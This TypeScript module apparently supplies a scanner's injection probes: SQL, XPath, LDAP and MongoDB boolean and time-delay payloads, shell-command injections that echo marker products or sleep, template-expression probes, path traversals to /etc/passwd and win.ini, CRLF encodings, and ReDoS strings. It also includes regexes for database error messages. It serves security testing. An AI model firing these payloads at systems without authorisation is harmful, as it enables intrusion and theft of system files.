/**
 * Values that mean something to an interpreter and nothing to a service that treats values as data.
 * Few and sharp: each comes with the counterpart that must act otherwise if, and only if, it was interpreted.
 */

/** Four values for one context: two that an interpreter finds true and two that it finds false. */
export interface Condition {
  /** Where in the interpreter's language the value stands, for the report. */
  readonly context: string;
  readonly yes: readonly [string, string];
  readonly no: readonly [string, string];
}

function condition(context: string, write: (figure: string, holds: boolean) => string): Condition {
  return {
    context,
    yes: [write('4821', true), write('7316', true)],
    no: [write('4821', false), write('7316', false)],
  };
}

/** LIKE and BETWEEN exist in SQL only, so that a hit is SQL and no other language with quotes. */
export function sqlConditions(value: string, hasRows: boolean): Condition[] {
  const like = (figure: string, holds: boolean) => (holds ? `${figure.slice(0, 2)}%` : 'zz%');
  const [word] = hasRows ? ['and'] : ['or'];
  const quoted = (context: string, open: string, close: string, quote: string) =>
    condition(
      context,
      (figure, holds) =>
        `${value}${open} ${word} ${close}${quote}${figure}${quote} like ${quote}${like(figure, holds)}`,
    );
  const numeric = condition(
    'a number',
    (figure, holds) => `${value} ${word} ${figure} between ${holds ? `${figure} and 9999` : '1 and 9'}`,
  );
  return [
    quoted('a string', "'", '', "'"),
    quoted('a string in brackets', "')", '(', "'"),
    quoted('a string in double quotes', '"', '', '"'),
    ...(hasRows ? [quoted('a pattern', "%'", '', "'")] : []),
    ...(/^\d*$/.test(value) ? [numeric] : []),
  ];
}

/** `string-length` is a function of XPath and of nothing else that is embedded in services. */
export function xpathConditions(value: string, hasRows: boolean): Condition[] {
  const word = hasRows ? 'and' : 'or';
  return ["'", '"'].map((quote) =>
    condition(
      quote === "'" ? 'a string' : 'a string in double quotes',
      (figure, holds) =>
        `${value}${quote} ${word} string-length(${quote}${figure}${quote})=${holds ? 4 : 5} ${word} ${quote}a${quote}=${quote}${hasRows ? 'a' : 'b'}`,
    ),
  );
}

/** Filters that close ours and add a term (RFC 4515); the object class is there on every entry. */
export function ldapConditions(ordinary: string, hasRows: boolean): Condition[] {
  // A value that nobody has finds nobody whatever is added to it.
  const value = hasRows ? ordinary : '*';
  return [
    {
      context: 'a filter',
      yes: [`${value})(objectClass=*`, `${value})(!(objectClass=mb-none)`],
      no: [`${value})(objectClass=mb-none`, `${value})(!(objectClass=*)`],
    },
    {
      context: 'a filter, closed by itself',
      yes: [
        `${value})(objectClass=*))(&(objectClass=*`,
        `${value})(!(objectClass=mb-none)))(&(objectClass=*`,
      ],
      no: [`${value})(objectClass=mb-none))(&(objectClass=*`, `${value})(!(objectClass=*)))(&(objectClass=*`],
    },
  ];
}

/** JavaScript in a string, as in MongoDB’s $where. */
export function scriptConditions(value: string, hasRows: boolean): Condition[] {
  const word = hasRows ? '&&' : '||';
  return [
    condition(
      'a script',
      (figure, holds) =>
        `${value}' ${word} '${figure}'.length===${holds ? 4 : 5} ${word} 'a'==='${hasRows ? 'a' : 'b'}`,
    ),
  ];
}

/** Query operators of MongoDB as query-string parsers hand them on: suffix of the name, and value. */
export interface OperatorCondition {
  readonly yes: readonly [readonly [string, string], readonly [string, string]];
  readonly no: readonly [readonly [string, string], readonly [string, string]];
}

export function operatorConditions(value: string): OperatorCondition {
  return {
    yes: [
      ['[$eq]', value],
      ['[$in][]', value],
    ],
    no: [
      ['[$ne]', value],
      ['[$nin][]', value],
    ],
  };
}

/** Messages by which databases complain of syntax; no ordinary answer holds one by chance. */
export const SQL_ERRORS: readonly (readonly [database: string, message: RegExp])[] = [
  [
    'MySQL',
    /You have an error in your SQL syntax|check the manual that corresponds to your (?:MySQL|MariaDB)|mysql_fetch_/i,
  ],
  [
    'PostgreSQL',
    /(?:unterminated quoted string|syntax error) at or near|PG::SyntaxError|org\.postgresql\.util\.PSQLException/i,
  ],
  [
    'SQLite',
    /SQLITE_ERROR|sqlite3\.(?:OperationalError|ProgrammingError)|unrecognized token: "|near "[^"]*": syntax error/i,
  ],
  [
    'SQL Server',
    /Unclosed quotation mark after the character string|Incorrect syntax near '|System\.Data\.SqlClient/i,
  ],
  ['Oracle', /\bORA-(?:00933|00936|01756|00921)\b|quoted string not properly terminated/i],
  ['H2', /Syntax error in SQL statement|org\.h2\.jdbc\./i],
  ['HSQLDB', /org\.hsqldb\.|malformed string: '/i],
  ['Derby', /Syntax error: Encountered "|Lexical error at line \d{1,6}, column|org\.apache\.derby\./i],
  ['Db2', /SQLCODE=-(?:10|104|199)\b|\bSQL(?:0010|0104|0199)N\b|com\.ibm\.db2\.jcc\./i],
  ['Spring’s JDBC', /org\.springframework\.jdbc\.BadSqlGrammarException|bad SQL grammar \[/i],
  ['Hibernate', /org\.hibernate\.exception\.SQLGrammarException|\bQuerySyntaxException\b/],
  ['Prisma', /Raw query failed\. Code: `|\bPrismaClient\w{0,40}Error\b/],
  ['TypeORM', /\bQueryFailedError\b/],
  ['SQLAlchemy', /sqlalchemy\.exc\.|\[SQL: \w|https:\/\/sqlalche\.me\/e\//],
];

/** Of these, what a parser alone says: never said of a bound value, whatever stands in it. */
export const SQL_SYNTAX_ERRORS: readonly (readonly [database: string, message: RegExp])[] = [
  ['MySQL', /You have an error in your SQL syntax/i],
  ['PostgreSQL', /(?:unterminated quoted string|syntax error) at or near/i],
  ['SQLite', /unrecognized token: "|near "[^"]*": syntax error/i],
  ['SQL Server', /Unclosed quotation mark after the character string|Incorrect syntax near '/i],
  ['Oracle', /\bORA-(?:00933|00936|01756)\b|quoted string not properly terminated/i],
  ['H2', /Syntax error in SQL statement/i],
  ['HSQLDB', /malformed string: '/i],
  ['Derby', /Syntax error: Encountered "|Lexical error at line \d{1,6}, column/i],
  ['Db2', /SQLCODE=-(?:10|104)\b|\bSQL(?:0010|0104)N\b/i],
];

/** Values that make a database wait, by database. */
export function sqlDelays(value: string): readonly ((seconds: number) => string)[] {
  return [
    (seconds) => `${value}' and sleep(${seconds}) and '1'='1`,
    (seconds) => `${value}'||(select pg_sleep(${seconds}))||'`,
    (seconds) => `${value}';waitfor delay '0:0:${seconds}'--`,
    ...(/^\d*$/.test(value) ? [(seconds: number) => `${value || 1} and sleep(${seconds})`] : []),
  ];
}

/** Two products that nobody sends and no page shows by chance. */
export const PRODUCTS = [
  { left: 7919, right: 6841, product: '54173879' },
  { left: 7873, right: 6833, product: '53796209' },
] as const;

export type Product = (typeof PRODUCTS)[number];

/** Shell commands that print a product between two marks, which stands nowhere in what was sent. */
export function shellEchoes(value: string): readonly ((product: Product) => string)[] {
  const echo = ({ left, right }: Product) => `echo mb$((${left}*${right}))mb`;
  return [
    (product) => `${value};${echo(product)}`,
    (product) => `${value}$(${echo(product)})`,
    (product) => `${value}';${echo(product)};'`,
    (product) => `${value}|${echo(product)}`,
  ];
}

/** The same at once, whether the value stands bare or in quotes of either kind. */
export function allShellEchoes(value: string): (product: Product) => string {
  return ({ left, right }) => {
    const echo = `echo mb$((${left}*${right}))mb`;
    return `${value}$(${echo})|${echo};${echo}';${echo};'`;
  };
}

/** Both of `shellDelays` at once, each for a second. */
export function allShellDelays(value: string): string {
  return `${value}$(sleep 1);sleep 1`;
}

export function shellDelays(value: string): readonly ((seconds: number) => string)[] {
  return [(seconds) => `${value};sleep ${seconds}`, (seconds) => `${value}$(sleep ${seconds})`];
}

/** Expressions of template engines, by engine family. */
export const TEMPLATES: readonly {
  readonly family: string;
  readonly write: (left: number | string, right: number | string) => string;
}[] = [
  { family: 'Jinja, Twig, Nunjucks, Handlebars-like', write: (left, right) => `{{${left}*${right}}}` },
  { family: 'FreeMarker, Velocity, EL, template literals', write: (left, right) => `\${${left}*${right}}` },
  { family: 'ERB, EJS, JSP', write: (left, right) => `<%= ${left}*${right} %>` },
  { family: 'Pug, Slim, Thymeleaf', write: (left, right) => `#{${left}*${right}}` },
];

/** A file, how it is reached, and what stands in it; and the same way to one that is not there. */
export interface Traversal {
  readonly raw: string;
  readonly absent: string;
  readonly holds: RegExp;
}

/** What the list of accounts of a Unix begins with, by itself or as a value of JSON or an element. */
export const ACCOUNTS = /(?:^|["'>])root:[^:\n]{0,80}:0:0:/m;
const traversal = (holds: RegExp, write: (file: string) => string, file = 'passwd'): Traversal => ({
  raw: write(file),
  absent: write('mb-none'),
  holds,
});
const UP = '../'.repeat(8);

/** Files that every system of its kind has, by ways that careless checks leave open. */
const TRAVERSALS: readonly Traversal[] = [
  traversal(ACCOUNTS, (file) => `${UP}etc/${file}`),
  traversal(ACCOUNTS, (file) => `/etc/${file}`),
  traversal(ACCOUNTS, (file) => `${'....//'.repeat(8)}etc/${file}`),
  traversal(
    /^; for 16-bit app support|^\[(?:fonts|extensions|mci extensions)\]/m,
    (file) => `${'..\\'.repeat(8)}windows\\${file}.ini`,
    'win',
  ),
  // Encoded once more than usual: for who looks first and decodes again.
  traversal(ACCOUNTS, (file) => `${'..%2f'.repeat(8)}etc%2f${file}`),
];

/** What an ending that the service adds makes a file of: `.json` below the folder of a Node service, `.conf` on Linux. */
const WITHOUT_ENDING: readonly Traversal[] = [
  traversal(/"(?:devD|peerD|d)ependencies"\s*:\s*\{|"scripts"\s*:\s*\{/, (file) => `../${file}`, 'package'),
  traversal(
    /"(?:devD|peerD|d)ependencies"\s*:\s*\{|"scripts"\s*:\s*\{/,
    (file) => `../../${file}`,
    'package',
  ),
  traversal(/^nameserver \S/m, (file) => `${UP}etc/${file}`, 'resolv'),
];

/** Names of what holds the name of a file. */
export const NAMES_FILE = /file|path|name|template|page|view|doc|report|lang|locale|theme|layout/i;

/** Ways out of a folder for a parameter of this name, which usually holds this value. */
export function traversals(name: string, ordinary: string): readonly Traversal[] {
  // Who looks at the beginning only wants to see it; what leads out of it follows.
  const folder = /^[\w.-]+(?=\/)/.exec(ordinary)?.[0];
  const beginning = folder === undefined ? [] : [traversal(ACCOUNTS, (file) => `${folder}/${UP}etc/${file}`)];
  return [...TRAVERSALS, ...beginning, ...(NAMES_FILE.test(name) ? WITHOUT_ENDING : [])];
}

/** Line ends in forms that careless code turns back into line ends, written as they go on the wire. */
export const LINE_ENDS: readonly string[] = ['%0d%0a', '%0a', '%E5%98%8D%E5%98%8A'];

/** Repeated text that a pattern with nested repetition tries in every way before it gives up on the last sign. */
export const BACKTRACKERS: readonly { readonly unit: string; readonly last: string }[] = [
  { unit: 'a', last: '!' },
  { unit: '1', last: '!' },
  { unit: 'a ', last: '!' },
];
